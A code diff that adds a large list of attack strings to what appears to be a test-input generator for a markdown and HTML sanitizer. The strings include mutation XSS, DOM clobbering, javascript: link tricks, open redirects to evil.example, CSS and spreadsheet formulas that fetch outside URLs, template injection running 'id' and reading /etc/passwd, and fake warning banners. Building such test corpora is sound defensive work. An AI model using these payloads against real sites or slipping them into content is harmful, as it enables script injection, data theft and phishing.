@@ -369,6 +369,109 @@ _LONG = (
 )
 
 
+_NEWER = (
+    # Mutations between parsers: nesting beyond limits, namespaces, comments, template contents.
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={call}&gt;'>",
+    "<svg></p><style><a id='</style><img src=1 onerror={call}>'>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={call}>",
+    "<svg><annotation-xml encoding='text/html'><style><img src=x onerror={call}></style></annotation-xml>",
+    "<math><annotation-xml encoding='application/xhtml+xml'><img src=x onerror={call}></annotation-xml></math>",
+    "<template><template shadowrootmode=open><img src=x onerror={call}></template></template>",
+    "<div><template shadowrootmode='open'><slot></slot><script>{call}</script></template></div>",
+    "<svg><foreignObject><p><svg><desc><b><style></b><img src=x onerror={call}></style>",
+    "<select><svg><style></select><img src=x onerror={call}></style></svg>",
+    "<selectedcontent><img src=x onerror={call}></selectedcontent>",
+    "<noembed><img title='</noembed><img src=x onerror={call}>'>",
+    "<xmp><p title='</xmp><svg/onload={call}>'>",
+    "<!--!> <img src=x onerror={call}> -->",
+    "<!--><svg onload={call}>-->",
+    "<?xml-stylesheet href={away}?><img src=x onerror={call}>",
+    "<![CDATA[><img src=x onerror={call}>]]>",
+    "<a b='</a><img src=x onerror={call}>'>x",
+    "<object><param name=x><embed src={away}></object>",
+    "<search onbeforetoggle={call} popover>x</search>",
+    "<button popovertarget=p>x</button><p popover id=p onbeforetoggle={call}>y",
+    "<input type=hidden oncontentvisibilityautostatechange={call} style=content-visibility:auto>",
+    "<img srcset='{away} 1x' src=x fetchpriority=high onerror={call}>",
+    "<dialog open onclose={call}><form method=dialog><button>x</button></form></dialog>",
+    "<fencedframe src={away}></fencedframe><portal src={away}></portal>",
+    "<link rel=expect href={away} blocking=render>",
+    '<script type=speculationrules>{{"prefetch":[{{"urls":["https:{away}"]}}]}}</script>',
+    '<script type=importmap>{{"imports":{{"/assets/search.js":"https:{away}"}}}}</script>',
+    # Names that scripts and pages of ours use, taken by somebody else.
+    "<form name=documentElement><input name=dataset></form>",
+    "<a id=defaultView href=x></a><img name=currentScript><img name=body>",
+    "<form id=search><input id=search-query name=children></form>",
+    "<a id=__config href='data:,{call}'></a><a id=__search></a>",
+    "<iframe name=fetch srcdoc='x'></iframe><img id=URL name=location>",
+    "<p id=content class=notice>x</p>",
+    "## Status {{#status}}",
+    "# main {{: #main .notice onclick={call} }}",
+    "x{{: style=position:fixed;inset:0 }}",
+    # Style through names and attributes.
+    "<p class='md-banner md-overlay' style=position:fixed;inset:0>x</p>",
+    "<p style=\"background:url('https:{away}')\">x</p>",
+    "<style>@import 'https:{away}';*{{content:url(https:{away})}}</style>",
+    "<link rel=stylesheet href=data:text/css,*%7Bdisplay:none%7D>",
+    '[x]{{.notice style="position:fixed"}}',
+    # Addresses.
+    "[x](java&Tab;script:{call})",
+    "[x](java&NewLine;script:{call})",
+    "[x](&#1;javascript:{call})",
+    "[x](%01javascript:{call})",
+    "[x](\\\\\\\\evil.example/x)",
+    "[x](/\\\\evil.example/x)",
+    "[x](https:\\\\\\\\evil.example)",
+    "[x](/%09/evil.example/x)",
+    "[x](//evil.example%2f@register.example/)",
+    "[x](https://register.example@evil.example/)",
+    "[x](///evil.example/x)",
+    "[x](http:evil.example)",
+    "[x](blob:https://register.example/0)",
+    "[x](filesystem:https://register.example/x)",
+    "[x](view-source:javascript:{call})",
+    "[x](intent:{away}#Intent;scheme=https;end)",
+    "[x](ms-msdt:/id%20PCWDiagnostic)",
+    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
+    "![x](data:text/html,%3Cscript%3E{call}%3C/script%3E)",
+    '![x](https:{away} "x")',
+    "[x][r] [r]: javascript:{call}",
+    "[toString]: https:{away} [toString]",
+    "[^1]: <img src=x onerror={call}> x[^1]",
+    "<https://evil.example/&quot;onclick={call}>",
+    "<mailto:a@evil.example?body=%3Cscript%3E>",
+    "https://evil.example/%E2%80%AE/x http://\u0435vil.example/",
+    "*[HTML]: <svg onload={call}> HTML",
+    # What looks like the site's own.
+    "This algorithm was stopped on 24 June 2021. [Read why](https:{away})",
+    "Dit algoritme is gestopt. Deze registratie is ingetrokken.",
+    "> **Warning** This page has moved: https:{away}",
+    "[!WARNING] Log in again at https:{away}",
+    '!!! danger "Ingetrokken" Deze registratie is ingetrokken',
+    '??? note "x" <svg onload={call}>',
+    # Outputs besides pages.
+    '</script ><script type=application/ld+json>{{"@id":"x"}}</script>',
+    "<!--<script>{call}",
+    '","@context":"https:{away}","x":"',
+    '{{"@context":{{"@base":"https:{away}"}}}}',
+    "{{{{constructor.constructor('{call}')()}}}}",
+    "{{%raw%}}{{{{cycler.__init__.__globals__.os.popen('id').read()}}}}{{%endraw%}}",
+    '{{#include /etc/passwd}} --8<-- "/etc/passwd"',
+    "${{T(java.lang.Runtime).getRuntime().exec('id')}} #{{7*7}} *{{7*7}} @{{7*7}}",
+    "\uff1d1+1\uff5ccmd",
+    "\uff0b1+1 \uff0d1+1 \uff20SUM(1)",
+    '=WEBSERVICE("https:{away}")',
+    '=IMPORTXML("https:{away}","//a")',
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    '+HYPERLINK("https:{away}")',
+    "x;=1+1",
+    '"=1+1',
+    "\\input{{/etc/passwd}} \\write18{{id}}",
+    "@book{{x, title={{y}}}} }} @misc{{z",
+)
+"""Families of the last years: what browsers and libraries have learnt since the public lists were made."""
+
+
 def _fill(pattern: str, **more: str) -> str:
     return pattern.format(call=_CALL, away=_AWAY, **more)
 
@@ -383,7 +486,7 @@ def _short() -> Iterator[str]:
     for number, (form, scheme) in enumerate(product(_LINK_FORMS, _SCHEMES)):
         if number % 3 != 2 or form == "[click]({url})":
             yield form.format(url=_fill(scheme))
-    for family in (_LOADS, _FORGERIES, _TEMPLATES, _MUTATIONS, _DATA):
+    for family in (_LOADS, _FORGERIES, _TEMPLATES, _MUTATIONS, _DATA, _NEWER):
         yield from map(_fill, family)
 
 
